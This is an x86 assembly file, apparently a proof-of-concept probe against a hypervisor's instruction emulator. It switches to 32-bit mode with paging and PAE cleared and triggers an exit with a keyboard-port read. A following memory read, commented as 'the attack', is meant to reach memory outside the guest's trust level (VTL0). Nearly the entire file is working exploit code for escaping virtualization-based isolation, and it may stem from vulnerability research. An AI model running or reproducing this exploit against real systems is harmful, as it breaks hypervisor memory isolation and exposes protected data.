/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Exits with LME set, PAE and PG clear. An emulator comes back from such an
 * exit with the hypervisor's paging off, and would run the guest without
 * nested paging after the next entry: the read behind it would reach memory
 * that VTL0 does not have.
 */
	.text
	.set PROBE_ADDRESS, 0
	.set PROBE_VALUE, 4
	.set PROBE_FAULTED, 8
	.set PROBE_CR4, 12
	.set PROBE_GDTR, 16
	.set PROBE_IDTR, 32
	.set PROBE_SAVED_GDTR, 48
	.set PROBE_SAVED_IDTR, 64
	.set PROBE_SAVED_RSP, 80
	.set PROBE_SAVED_CS, 88
	.set CODE32, 0x08
	.set DATA32, 0x10
	.set CODE64, 0x18
	.set CR0_PG, 0x80000000
	.set CR4_PAE, 0x20
	.set KEYBOARD_STATUS, 0x64

/* void probe_run(struct probe *probe): Microsoft convention, RCX. */
	.globl probe_run
probe_run:
	pushfq
	cli
	push %rbx
	push %rbp
	push %rsi
	push %rdi
	mov %rcx, %rdi
	mov %rsp, PROBE_SAVED_RSP(%rdi)
	mov %cs, %eax
	mov %rax, PROBE_SAVED_CS(%rdi)
	sgdt PROBE_SAVED_GDTR(%rdi)
	sidt PROBE_SAVED_IDTR(%rdi)
	mov %ss, %ebx			/* firmware's one data selector */
	mov %cr4, %rax
	mov %eax, PROBE_CR4(%rdi)
	lgdt PROBE_GDTR(%rdi)
	lea here(%rip), %rbp
	push $CODE32
	push %rbp
	lretq

	.code32
here:
	mov $DATA32, %eax
	mov %eax, %ss
	mov %eax, %ds
	mov %eax, %es
	mov %cr0, %eax
	and $~CR0_PG, %eax
	mov %eax, %cr0
	mov %cr4, %eax
	and $~CR4_PAE, %eax
	mov %eax, %cr4
	lidtl PROBE_IDTR(%edi)
	mov PROBE_ADDRESS(%edi), %ecx
	in $KEYBOARD_STATUS, %al	/* the exit */
	mov (%ecx), %eax		/* the attack */
	mov %eax, PROBE_VALUE(%edi)
after:
	mov PROBE_CR4(%edi), %eax
	mov %eax, %cr4
	mov %cr0, %eax
	or $CR0_PG, %eax
	mov %eax, %cr0
	lea back - here(%ebp), %eax
	push $CODE64
	push %eax
	lretl

	.globl probe_fault
probe_fault:
	movl $1, PROBE_FAULTED(%edi)
	lea after - here(%ebp), %eax
	mov %eax, 4(%esp)		/* EIP, above the error code */
	add $4, %esp
	iretl

	.code64
back:
	mov PROBE_SAVED_RSP(%rdi), %rsp
	lgdt PROBE_SAVED_GDTR(%rdi)
	lidt PROBE_SAVED_IDTR(%rdi)
	mov %ebx, %ss
	mov %ebx, %ds
	mov %ebx, %es
	pushq PROBE_SAVED_CS(%rdi)
	lea 1f(%rip), %rax
	push %rax
	lretq
1:	pop %rdi
	pop %rsi
	pop %rbp
	pop %rbx
	popfq
	ret
